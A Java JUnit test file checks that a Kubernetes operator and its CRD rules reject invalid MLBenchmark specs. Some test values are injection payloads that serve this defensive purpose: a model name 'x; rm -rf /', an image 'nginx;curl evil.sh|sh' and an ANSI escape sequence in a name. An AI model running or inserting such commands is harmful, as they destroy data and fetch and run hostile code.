package dev.mlbench.controller.validation;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.util.List;
import java.util.function.Consumer;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.dataformat.yaml.YAMLFactory;

import dev.mlbench.api.v1alpha1.MLBenchmark;
import dev.mlbench.controller.catalog.InstanceTypeCatalog;
import dev.mlbench.controller.testing.CrdSchemaValidator;
import dev.mlbench.controller.testing.OperatorHarness;
import io.fabric8.kubernetes.client.utils.KubernetesSerialization;

/**
 * Invalid specs are rejected by the operator with a specific message and, where the CRD has a rule for the case,
 * by the CRD's schema and CEL rules too; the examples pass both.
 */
class SpecValidationTest {

  static final ObjectMapper YAML = new ObjectMapper(new YAMLFactory());
  static final KubernetesSerialization SERIALIZATION = new KubernetesSerialization();
  static final CrdSchemaValidator CRD = new CrdSchemaValidator(
      OperatorHarness.REPO.resolve("crds/mlbenchmarks.mlbench.dev-v1.yml"));
  final MLBenchmarkValidator operator = new MLBenchmarkValidator(InstanceTypeCatalog.defaultCatalog());

  /** An invalid spec: how to break the quickstart, what the operator must say, and whether the CRD catches it. */
  record Case(String name, Consumer<ObjectNode> breakIt, String operatorSays, boolean crdRejects) {
    @Override
    public String toString() {
      return name;
    }
  }

  static Stream<Case> invalidSpecs() {
    return Stream.of(
        new Case("no models", b -> spec(b).putArray("models"), "spec.models: needs at least one model", true),
        new Case("duplicate model names", b -> model(b, 1).put("name", "orientation"),
            "'orientation' is used by two models", true),
        new Case("model name with shell injection", b -> model(b, 0).put("name", "x; rm -rf /"),
            "spec.models[0].name: 'x; rm -rf /' must be a DNS-1035 label", true),
        new Case("model name too long", b -> model(b, 0).put("name", "a".repeat(31)),
            "of at most 30 characters", true),
        new Case("custom workload without image", b -> model(b, 0).put("workload", "custom"),
            "spec.models[0].image: is required for workload custom", true),
        new Case("image with injection", b -> model(b, 0).put("image", "nginx;curl evil.sh|sh"),
            "is not a container image reference", true),
        new Case("zero cpu", b -> ((ObjectNode) model(b, 0).get("resources")).put("cpu", "0"),
            "spec.models[0].resources.cpu: must be more than 0", false),
        new Case("huge memory", b -> ((ObjectNode) model(b, 0).get("resources")).put("memory", "100Ti"),
            "is more than the 256Gi one pod may ask for", false),
        new Case("reserved environment variable", b -> model(b, 0).putObject("env").put("PORT", "9000"),
            "PORT is set by the operator or Knative", false),
        new Case("request without inputs", b -> model(b, 0).putObject("request").put("id", "x"),
            "must be an Open Inference Protocol v2 request", false),
        new Case("every target disabled", b -> {
          target(b, "serverless").put("enabled", false);
          target(b, "container").put("enabled", false);
          target(b, "vm").put("enabled", false);
        }, "at least one target (serverless, container or vm) must be enabled", true),
        new Case("minScale above maxScale", b -> target(b, "serverless").put("minScale", 5).put("maxScale", 2),
            "minScale (5) must not exceed maxScale (2)", true),
        new Case("target above containerConcurrency", b -> target(b, "serverless").put("containerConcurrency", 4).put("target", 10),
            "(10) must not exceed containerConcurrency (4)", true),
        new Case("Knative window below 6s", b -> target(b, "serverless").put("window", "2s"),
            "spec.targets.serverless.window: 2s must be between 6s and 1h", true),
        new Case("negative maxScale", b -> target(b, "serverless").put("maxScale", -1),
            "spec.targets.serverless.maxScale: (-1) must be between 1 and 1000", true),
        new Case("autoscale minReplicas above maxReplicas",
            b -> target(b, "container").putObject("autoscale").put("minReplicas", 6).put("maxReplicas", 2),
            "minReplicas (6) must not exceed maxReplicas (2)", true),
        new Case("unknown instance type", b -> target(b, "vm").put("instanceType", "quantum.huge"),
            "'quantum.huge' is not a known instance type; known:", false),
        new Case("too many VM nodes", b -> target(b, "vm").put("nodes", 1000),
            "spec.targets.vm.nodes: (1000) must be between 1 and 100", true),
        new Case("constant pattern without rate", b -> scenario(b, 0).remove("rate"),
            "spec.load.scenarios[0].rate: is required for constant", true),
        new Case("concurrency pattern with a rate", b -> scenario(b, 1).put("rate", 10),
            "spec.load.scenarios[1].rate: does not apply to concurrency", true),
        new Case("burst base rate above peak", b -> {
          scenario(b, 0).put("pattern", "burst").put("rate", 10).put("baseRate", 20).put("period", "10s");
        }, "scenarios[0].baseRate: (20.0) must be below the burst's rate (10.0)", true),
        new Case("negative duration", b -> scenario(b, 0).put("duration", "-5s"),
            "'-5s' is not a duration", true),
        new Case("zero rate", b -> scenario(b, 0).put("rate", 0),
            "spec.load.scenarios[0].rate: (0.0) must be between 0.001 and 100000", true),
        new Case("concurrency level of zero", b -> ((ArrayNode) scenario(b, 1).get("levels")).add(0),
            "each concurrency level must be between 1 and 10000", true),
        new Case("duplicate scenario names", b -> scenario(b, 1).put("name", "steady"),
            "'steady' is used by two scenarios", true),
        new Case("trace without its ConfigMap", b -> {
          scenario(b, 0).put("pattern", "trace").remove(List.of("rate", "duration"));
        }, "spec.load.scenarios[0].configMapRef: is required for trace", true),
        new Case("unknown duration unit", b -> scenario(b, 0).put("duration", "30 seconds"),
            "'30 seconds' is not a duration", true),
        new Case("too many load pods", b -> load(b).put("parallelism", 500),
            "spec.load.parallelism: (500) must be between 1 and 20", true),
        new Case("custom prices without overrides", b -> cost(b).put("provider", "custom"),
            "provider 'custom' takes its prices only from cost.overrides", true),
        new Case("negative price override", b -> cost(b).putObject("overrides").put("faas.gbSecond", -1.0),
            "must be a price of 0 or more", true),
        new Case("benchmark name that cannot name a Service", b -> ((ObjectNode) b.get("metadata")).put("name", "9-lives"),
            "metadata.name: must be a DNS-1035 label", true));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("invalidSpecs")
  void invalidSpecIsRejectedWithASpecificMessage(Case c) throws IOException {
    ObjectNode benchmark = quickstart();
    c.breakIt().accept(benchmark);

    List<String> operatorProblems = operator.validate(SERIALIZATION.unmarshal(benchmark.toString(), MLBenchmark.class));
    assertThat(operatorProblems).as("operator on %s", c.name()).anySatisfy(p -> assertThat(p).contains(c.operatorSays()));

    List<String> crdProblems = CRD.validate(benchmark);
    if (c.crdRejects()) {
      assertThat(crdProblems).as("CRD schema and CEL rules on %s", c.name()).isNotEmpty();
    } else {
      assertThat(crdProblems).as("%s is the operator's own rule; the CRD lets it through", c.name()).isEmpty();
    }
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = { "quickstart.yaml", "image-classification.yaml", "sentiment.yaml", "timeseries.yaml",
      "recommendation.yaml", "custom.yaml", "paper.yaml" })
  void examplesPassTheOperatorAndTheCrd(String example) throws IOException {
    ObjectNode benchmark = load(example);
    assertThat(operator.validate(SERIALIZATION.unmarshal(benchmark.toString(), MLBenchmark.class))).isEmpty();
    assertThat(CRD.validate(benchmark)).isEmpty();
  }

  @Test
  void anEmptySpecGetsEveryDefaultFromTheCrdAndTheJavaDefaultsAgree() throws IOException {
    ObjectNode minimal = (ObjectNode) YAML.readTree("""
        apiVersion: mlbench.dev/v1alpha1
        kind: MLBenchmark
        metadata: {name: minimal}
        spec:
          models: [{name: m, workload: sentiment}]
        """);
    JsonNode defaulted = CRD.withDefaults(minimal);
    MLBenchmark fromCrdDefaults = SERIALIZATION.unmarshal(defaulted.toString(), MLBenchmark.class);
    MLBenchmark fromJavaDefaults = SERIALIZATION.unmarshal(minimal.toString(), MLBenchmark.class);
    assertThat(SERIALIZATION.asJson(fromCrdDefaults.getSpec())).isEqualTo(SERIALIZATION.asJson(fromJavaDefaults.getSpec()));
    assertThat(CRD.validate(minimal)).isEmpty();
    assertThat(operator.validate(fromJavaDefaults)).isEmpty();
  }

  @Test
  void aHostileSpecGetsEveryProblemInOneMessageWithoutEchoingControlCharacters() throws IOException {
    ObjectNode benchmark = quickstart();
    model(benchmark, 0).put("name", "evil\u001b[31mred");
    target(benchmark, "vm").put("instanceType", "x\ny");
    List<String> problems = operator.validate(SERIALIZATION.unmarshal(benchmark.toString(), MLBenchmark.class));
    assertThat(problems).hasSize(2).allSatisfy(p -> assertThat(p).doesNotContain("\u001b").doesNotContain("\n"));
  }

  static ObjectNode quickstart() throws IOException {
    return load("quickstart.yaml");
  }

  static ObjectNode load(String example) throws IOException {
    String text = Files.readString(OperatorHarness.REPO.resolve("examples").resolve(example));
    for (String doc : text.split("(?m)^---\\s*$")) {
      JsonNode node = YAML.readTree(doc);
      if (node != null && "MLBenchmark".equals(node.path("kind").asText())) {
        return (ObjectNode) node;
      }
    }
    throw new IllegalArgumentException(example + " holds no MLBenchmark");
  }

  static ObjectNode spec(ObjectNode b) {
    return (ObjectNode) b.get("spec");
  }

  static ObjectNode model(ObjectNode b, int i) {
    return (ObjectNode) spec(b).get("models").get(i);
  }

  static ObjectNode target(ObjectNode b, String name) {
    return (ObjectNode) spec(b).get("targets").get(name);
  }

  static ObjectNode load(ObjectNode b) {
    return (ObjectNode) spec(b).get("load");
  }

  static ObjectNode scenario(ObjectNode b, int i) {
    return (ObjectNode) load(b).get("scenarios").get(i);
  }

  static void nothing(ObjectNode b) {
  }

  static ObjectNode cost(ObjectNode b) {
    return (ObjectNode) spec(b).get("cost");
  }
}
